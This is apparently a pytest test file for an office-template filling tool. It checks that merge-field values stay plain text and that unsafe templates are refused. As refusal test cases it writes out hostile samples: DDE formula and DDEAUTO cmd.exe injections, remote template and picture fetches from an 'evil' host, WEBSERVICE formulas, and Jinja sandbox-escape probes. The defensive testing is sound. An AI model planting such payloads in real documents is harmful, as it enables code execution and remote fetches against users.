"""Templates are filled with words that stay words, what is missing stays visible, and what is unsafe is refused."""

from __future__ import annotations

import base64
import io
import json
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pmo_desktop.exchange import filling, officefile
from pmo_desktop.exchange.archive import Refused
from pmo_desktop.exchange.filling import fill, main
from pmo_desktop.exchange.mergefields import clean_text
from tests.exchange.officemade import a_book, a_document, cells_of, part_of, texts_of, with_parts

VALUES: dict[str, Any] = {
    "project": {"name": "Tram & bus", "ref": "=1+1", "budget": None},
    "sponsor": "Ada",
    "manager": "",
    "milestones": [{"name": "Go <live>", "owner": ""}, {"name": "Close", "owner": "Ben"}],
    "issues": [],
}
RELATIONS = "word/_rels/document.xml.rels"
LOOP = [
    ["Name", "Owner"],
    ["{%tr for m in milestones %}", ""],
    ["{{ m.name }}", "{{ m.owner }}"],
    ["{%tr endfor %}", ""],
]


def test_a_document_is_filled_in_its_text_tables_and_footer() -> None:
    content = a_document("Plan of {{ project.name }}", "{{ sponsor }} leads.", rows=LOOP, footer="{{project.ref}}")
    assert texts_of(fill(content, VALUES)) == [
        "Plan of Tram & bus", "Ada leads.", "Name", "Owner", "Go <live>", "Close", "Ben", "=1+1",
    ]  # fmt: skip


def test_what_is_missing_stays_visible_in_words() -> None:
    content = a_document("{{ project.budget }} {{ manager }} {{ nobody.name.first }} {{ project['age'] }}")
    assert texts_of(fill(content, VALUES)) == [
        "[project.budget: not filled] [manager: not filled] [nobody.name.first: not filled] [project.age: not filled]"
    ]
    assert cells_of(fill(a_book(["{{ project.budget }} {{ x.y }}"]), VALUES)) == [
        ["[project.budget: not filled] [x.y: not filled]"]
    ]


def test_a_document_may_leave_parts_out_and_count_its_rows() -> None:
    content = a_document(
        "{%p if sponsor and not manager %}",
        "no manager yet",
        "{%p endif %}",
        "{% for m in milestones %}{{ loop.index }} of {{ loop.length }} {{ m.name }}; {% endfor %}",
        "{% for each in nobody %}x{% endfor %}none",
    )
    assert texts_of(fill(content, VALUES)) == ["no manager yet", "1 of 2 Go <live>; 2 of 2 Close; ", "none"]


SAID = ("{{ 7*7 }}", "{%p if x %}", "{_{", "</w:t>", "&amp;", "a\r\nb\tc", "_x0041_", "=1")


@given(st.text(st.characters(), max_size=40) | st.sampled_from(SAID))
@settings(max_examples=12, deadline=None)
def test_whatever_a_value_says_it_stays_words(text: str) -> None:
    values = {"project": {"name": text}, "milestones": [{"name": text}]}
    expected = clean_text(text) or "[project.name: not filled]"
    assert texts_of(fill(_DOCUMENT, values)) == [f"<{expected}>"]
    found = openpyxl.load_workbook(io.BytesIO(fill(_BOOK, values))).worksheets[0]["A1"]
    assert found.data_type == "s"
    assert str(found.value).replace("_x005F_", "_") == f"<{expected}>".replace("_x005F_", "_")


_DOCUMENT, _BOOK = a_document("<{{ project.name }}>"), a_book(["<{{ project.name }}>"])


def test_a_workbook_repeats_a_row_downwards_and_keeps_its_own_formulas() -> None:
    content = a_book(
        ["{{ sponsor }}", "=1+1"], ["Name", "Owner", "State"], ["{{ milestones.name }}", "{{milestones.owner}}", "open"]
    )
    assert cells_of(fill(content, VALUES)) == [
        ["Ada", "=1+1", None],
        ["Name", "Owner", "State"],
        ["Go <live>", None, "open"],
        ["Close", "Ben", "open"],
    ]


def test_an_empty_list_leaves_one_blank_row_and_an_unknown_column_is_seen() -> None:
    assert cells_of(fill(a_book(["x"], ["{{ issues.name }}"], ["end"]), VALUES)) == [["x"], [None], ["end"]]
    values = {"milestones": [{"name": "Go"}]}
    assert cells_of(fill(a_book(["{{ milestones.name }}", "{{ milestones.age }}"]), values)) == [
        ["Go", "[milestones.age: not filled]"]
    ]


def test_cells_that_are_merged_show_the_first_of_them() -> None:
    book = openpyxl.load_workbook(io.BytesIO(a_book(["{{ milestones.name }}", None, "{{ milestones.owner }}"])))
    book.worksheets[0].merge_cells("A1:B1")
    kept = io.BytesIO()
    book.save(kept)
    assert cells_of(fill(kept.getvalue(), VALUES)) == [["Go <live>", None, None], ["Close", None, "Ben"]]


def test_a_value_that_looks_like_a_formula_is_marked_as_text() -> None:
    cell = openpyxl.load_workbook(io.BytesIO(fill(a_book(["{{ project.ref }}"]), VALUES))).worksheets[0]["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


@pytest.mark.parametrize(
    ("rows", "said"),
    [
        ([['="{{ sponsor }}"']], r"Sheet!A1 has a merge field in a formula"),
        ([["{{ milestones.name }}", "{{ issues.name }}"]], r"row 1 of Sheet repeats issues and milestones"),
        ([["{{ milestones.name }}"], ["below"]], r"Sheet!A2 stands where the rows of milestones go"),
        ([["=WEBSERVICE(A1)"]], r"its formula WEBSERVICE\(A1\) fetches something from elsewhere"),
        ([["=cmd|'/c calc'!A1"]], r"fetches something from elsewhere"),
    ],
)
def test_a_workbook_that_cannot_be_filled_is_refused(rows: list[list[str]], said: str) -> None:
    with pytest.raises(Refused, match=said):
        fill(a_book(*rows), VALUES)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("{{ project.name", "not written as it should be"),
        ("{% for %}", "not written as it should be"),
        ("{{ sponsor|upper }}", "not written as it should be"),
        ("{{ project.name.__class__ }}", "what templates may not do: there is no .__class__ here"),
        ("{{ project.items() }}", "nothing can be called"),
        ("{{ ''.join(sponsor) }}", "there is no .join here"),
        ("{{ self.__init__ }}", "there is no .__init__ here"),
        ("{{ 'a' * 1000000000 }}", r"nothing can be calculated with \*"),
        ("{% for x in range(9) %}{% endfor %}", "what templates may not do"),
        ("{% include 'x' %}", "what templates may not do"),
        ("{% for m in milestones %}{{ loop.cycle('a') }}{% endfor %}", "there is no .cycle here"),
        ("{% for m in milestones %}", "not written as it should be"),
    ],
)
def test_a_document_that_asks_for_more_than_values_is_refused(text: str, said: str) -> None:
    with pytest.raises(Refused, match=said):
        fill(a_document(text), VALUES)


def test_fields_that_cut_through_the_structure_lose_nothing_silently() -> None:
    with pytest.raises(Refused, match="cut through its structure"):
        fill(a_document("a", "{%p if nobody %}", "c {% endif %} d"), VALUES)


RELATION = '<Relationship Id="rIdX" Type="http://x/{}" Target="{}" TargetMode="External"/></Relationships>'


def related(kind: str, target: str) -> bytes:
    """A document with one more relation to something outside."""
    content = a_document("x")
    relations = part_of(content, RELATIONS).replace("</Relationships>", RELATION.format(kind, target))
    return with_parts(content, {RELATIONS: relations})


def instructed(instruction: str) -> bytes:
    """A document with a field that Word would carry out."""
    content = a_document("x")
    field = f"<w:p><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p><w:sectPr"
    return with_parts(
        content, {"word/document.xml": part_of(content, "word/document.xml").replace("<w:sectPr", field, 1)}
    )


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (with_parts(a_document("x"), {"word/vbaProject.bin": "x"}), "it has macros"),
        (with_parts(a_book(["x"]), {"xl/macrosheets/sheet1.xml": "<x/>"}), "it has macros"),
        (with_parts(a_document("x"), {"word/embeddings/oleObject1.bin": "x"}), "it has embedded objects"),
        (with_parts(a_book(["x"]), {"xl/externalLinks/externalLink1.xml": "<x/>"}), "it has links to other files"),
        (with_parts(a_book(["x"]), {"xl/connections.xml": "<x/>"}), "it has links to databases"),
        (with_parts(a_document("x"), {"[Content_Types].xml": "<x>macroEnabled</x>"}), "it has macros"),
        (with_parts(a_document("x"), {RELATIONS: "<x"}), "it is damaged or incomplete"),
        (with_parts(a_document("x"), {"word/document.xml": "<x"}), "it is damaged or incomplete"),
        (with_parts(a_document("x"), {"word/document.xml": "<!DOCTYPE x><x/>"}), "it defines entities"),
        (related("attachedTemplate", "http://evil/x.dotm"), r"fetches something from elsewhere \(http://evil/x"),
        (related("image", "file://server/x.png"), "fetches something from elsewhere"),
        (related("hyperlink", "file://server/x"), "fetches something from elsewhere"),
        (related("oleObject", "x"), "it has embedded objects"),
        (instructed('DDEAUTO c:\\\\cmd.exe "/k calc"'), "its field DDEAUTO fetches or runs something"),
        (instructed('INCLUDEPICTURE "http://evil/x"'), "its field INCLUDEPICTURE"),
        (b"PK\x03\x04 damaged", "neither a Word document"),
        (b"%PDF-1.7", "neither a Word document"),
        (with_parts(b"PK\x05\x06" + bytes(18), {"x.txt": "x"}), "neither a Word document"),
    ],
)
def test_a_template_that_runs_fetches_or_carries_something_is_refused(content: bytes, said: str) -> None:
    with pytest.raises(Refused, match=said):
        fill(content, VALUES)


def test_a_link_that_somebody_clicks_and_a_page_number_may_stay() -> None:
    assert texts_of(fill(related("hyperlink", "https://example.org"), VALUES)) == ["x"]
    assert fill(instructed("PAGE"), VALUES)


@pytest.mark.parametrize(
    ("limit", "said"), [("MOST_BYTES", "MB; a template may have"), ("MOST_PART", "its part .* has more")]
)
def test_a_template_of_more_than_is_needed_is_refused(monkeypatch: pytest.MonkeyPatch, limit: str, said: str) -> None:
    monkeypatch.setattr(officefile, limit, 10)
    with pytest.raises(Refused, match=said):
        fill(a_document("x"), VALUES)


def ask(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], content: bytes) -> dict[str, Any]:
    """What the child answers."""
    asked = json.dumps({"content": base64.b64encode(content).decode(), "values": VALUES})
    monkeypatch.setattr("sys.stdin", io.StringIO(asked))
    monkeypatch.setattr(filling, "limit_memory", lambda: None)
    assert main([]) == 0
    answer: dict[str, Any] = json.loads(capsys.readouterr().out)
    return answer


def test_the_child_answers_with_the_document_or_a_sentence(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    answer = ask(monkeypatch, capsys, a_document("{{ sponsor }}"))
    assert texts_of(base64.b64decode(answer["content"])) == ["Ada"]
    assert ask(monkeypatch, capsys, b"x") == {"ok": False, "error": officefile._NEITHER}

    def greedy(*_: object) -> bytes:
        raise MemoryError

    monkeypatch.setattr(filling, "_fill_document", greedy)
    assert "more memory than is safe" in ask(monkeypatch, capsys, a_document("x"))["error"]
